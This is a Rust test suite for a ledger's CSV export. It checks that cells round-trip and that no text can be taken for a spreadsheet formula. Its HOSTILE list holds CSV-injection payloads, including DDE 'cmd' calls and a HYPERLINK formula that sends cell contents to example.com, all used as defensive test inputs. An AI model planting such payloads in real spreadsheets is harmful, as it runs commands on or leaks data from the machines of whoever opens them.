//! The export: what is written can be read again, and a spreadsheet runs none of it.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "what fails here is a failed test")]

#[path = "../core/tests/support/mod.rs"]
mod support;

use certquote::csv::{write, write_header, write_json};
use certquote::ledger::Ledger;
use proptest::prelude::*;
use serde_json::{Value, json};
use support::{SAMPLE, all, ledger, ledger_of, row, with};

const HEADER: &str = "id,transaction_date,transaction_type,amount,currency,balance_after,expiration_date,\
                      receipt_id,note,container_id,container_name,order_id";
/// The columns of numbers.
const NUMBERS: [usize; 2] = [3, 5];

fn csv(ledger: &Ledger) -> String {
    let mut out = String::new();
    write(ledger, &all(ledger), &mut out);
    out
}

/// A cell, and whether it was quoted.
type Cell = (String, bool);

/// Reads RFC 4180 by its letter: CRLF behind each line, quotes only around a whole cell.
fn parse(text: &str) -> Option<Vec<Vec<Cell>>> {
    let (mut lines, mut line) = (Vec::new(), Vec::new());
    let mut rest = text;
    while !rest.is_empty() {
        let quoted = rest.starts_with('"');
        let mut cell = String::new();
        if quoted {
            rest = &rest[1..];
            loop {
                let (part, after) = rest.split_once('"')?;
                cell.push_str(part);
                rest = after;
                match rest.strip_prefix('"') {
                    Some(after) => {
                        cell.push('"');
                        rest = after;
                    }
                    None => break,
                }
            }
        } else {
            let end = rest.find([',', '\r', '\n', '"'])?;
            cell.push_str(&rest[..end]);
            rest = &rest[end..];
        }
        line.push((cell, quoted));
        match rest.strip_prefix(',') {
            Some(after) => rest = after,
            None => {
                rest = rest.strip_prefix("\r\n")?;
                lines.push(std::mem::take(&mut line));
            }
        }
    }
    line.is_empty().then_some(lines)
}

/// The text as it was before it was made safe.
fn undone(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Whether a spreadsheet could take a cell for a formula.
fn is_formula(cell: &str) -> bool {
    let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}' | '\u{AD}'));
    cell.starts_with(['\t', '\r', '\n']) || seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn writes_the_sample_of_the_reference() {
    let mut out = String::new();
    write_header(&mut out);
    let ledger = ledger_of(SAMPLE);
    write(&ledger, &[0], &mut out);
    write(&ledger, &[1], &mut out);
    let lines = [
        HEADER,
        r#""5335328","2021-01-21 15:21:34","Charge",-750.00,"USD",8500.15,"","","","123456","Example Company","""#,
        r#""5533001","2021-01-21 15:20:18","Credit Card Deposit",1000.00,"USD",9250.15,"2022-01-21 00:00:00","","","123456","Example Company","""#,
        "",
    ];
    assert_eq!(out, lines.join("\r\n"));
}

#[test]
fn an_amount_that_is_not_known_or_not_clear_is_an_empty_number() {
    let both = with(row("1", "", "-1", ""), "credit", "2");
    let ledger = ledger(&[both, row("2", "", "", "-0.50")]);
    let numbers = |line: &Vec<Cell>| NUMBERS.map(|number| line[number].clone());
    let bare = |text: &str| (text.to_owned(), false);
    let lines = parse(&csv(&ledger)).unwrap();
    assert_eq!(numbers(&lines[0]), [bare(""), bare("")]);
    assert_eq!(numbers(&lines[1]), [bare(""), bare("-0.50")]);
}

const HOSTILE: [&str; 31] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1",
    "   +1",
    "\u{FEFF}=1",
    "\u{200B}=1",
    "\u{202E}=1",
    "\u{AD}=1",
    "\u{A0}@A1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1",
    "''",
    "\"=1",
    "\"\",=1",
    "a\",=1,\"b",
    "line\r\n=1",
    "semi;=1;colon",
    "=\"",
    "-",
];

#[test]
fn no_text_is_a_formula_and_every_text_comes_back() {
    for text in HOSTILE {
        let row = [
            "id",
            "transaction_type",
            "currency",
            "receipt_id",
            "note",
            "order_id",
            "transaction_date",
            "expiration_date",
        ]
        .into_iter()
        .fold(row("", "", "-5.00", "-7.10"), |row, name| with(row, name, text));
        let row = with(row, "container", json!({"id": text, "name": text}));
        let [line] = <[Vec<Cell>; 1]>::try_from(parse(&csv(&ledger(&[row]))).unwrap()).unwrap();
        for (number, (cell, quoted)) in line.iter().enumerate() {
            if NUMBERS.contains(&number) {
                assert!(
                    !quoted && ["-5.00", "-7.10"].contains(&cell.as_str()),
                    "negative amounts stay numbers"
                );
            } else {
                assert!(*quoted && !is_formula(cell), "{text:?} as {cell:?}");
                assert_eq!(undone(cell), text);
            }
        }
    }
}

#[test]
fn harmless_texts_are_written_as_they_are() {
    for text in ["Payment for invoice #100001", "a=b", "5", "a-b", "(=1)", " spaced ", "", "été"] {
        let ledger = ledger(&[with(row("1", "", "", ""), "note", text)]);
        assert_eq!(parse(&csv(&ledger)).unwrap()[0][8].0, text);
    }
}

#[test]
fn json_is_that_of_the_adjustments() {
    let ledger = ledger_of(SAMPLE);
    let mut out = "[".to_owned();
    write_json(&ledger, &all(&ledger), &mut out);
    out.push(']');
    let expected: Vec<Value> = all(&ledger)
        .iter()
        .map(|&row| serde_json::to_value(ledger.adjustment(row).unwrap()).unwrap())
        .collect();
    assert_eq!(serde_json::from_str::<Vec<Value>>(&out).unwrap(), expected);
    let mut none = String::new();
    write_json(&ledger, &[], &mut none);
    assert_eq!(none, "");
}

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(HOSTILE.as_slice()).prop_map(str::to_owned),
        "[=+@\\-'\",;\r\n\t a-c]{0,8}",
        any::<String>(),
    ]
}

proptest! {
    #[test]
    fn what_is_written_is_read_again(
        rows in prop::collection::vec((prop::array::uniform10(text()), prop::option::of("-?[0-9]{1,9}(\\.[0-9]{1,9})?"), prop::option::of("-?[0-9]{1,9}")), 0..12),
    ) {
        let mut values = Vec::new();
        for (place, (texts, credit, balance)) in rows.into_iter().enumerate() {
            let [id, date, kind, currency, expires, receipt, note, container, name, order] = texts;
            values.push(json!({
                "id": format!("{id}{place}"), "transaction_date": date, "transaction_type": kind, "currency": currency,
                "expiration_date": expires, "receipt_id": receipt, "note": note, "order_id": order,
                "container": {"id": container, "name": name}, "credit": credit, "balance_after": balance,
            }));
        }
        let ledger = ledger(&values);
        let lines = parse(&csv(&ledger)).unwrap();
        prop_assert_eq!(lines.len(), ledger.len());
        for (row, line) in all(&ledger).into_iter().zip(lines) {
            let row = ledger.adjustment(row).unwrap();
            let number = |amount: Option<certquote_core::amount::Amount>| amount.map(|amount| amount.to_string()).unwrap_or_default();
            let text = Option::unwrap_or_default;
            let expected = [
                row.id, row.date, row.kind, number(row.amount), text(row.currency), number(row.balance_after),
                text(row.expiration_date), text(row.receipt_id), text(row.note), text(row.container_id),
                text(row.container_name), text(row.order_id),
            ];
            prop_assert_eq!(line.len(), expected.len());
            for (place, ((cell, quoted), expected)) in line.iter().zip(&expected).enumerate() {
                let is_number = NUMBERS.contains(&place);
                prop_assert_eq!(*quoted, !is_number);
                prop_assert!(is_number || !is_formula(cell));
                prop_assert_eq!(if is_number { cell } else { undone(cell) }, expected);
            }
        }
    }
}
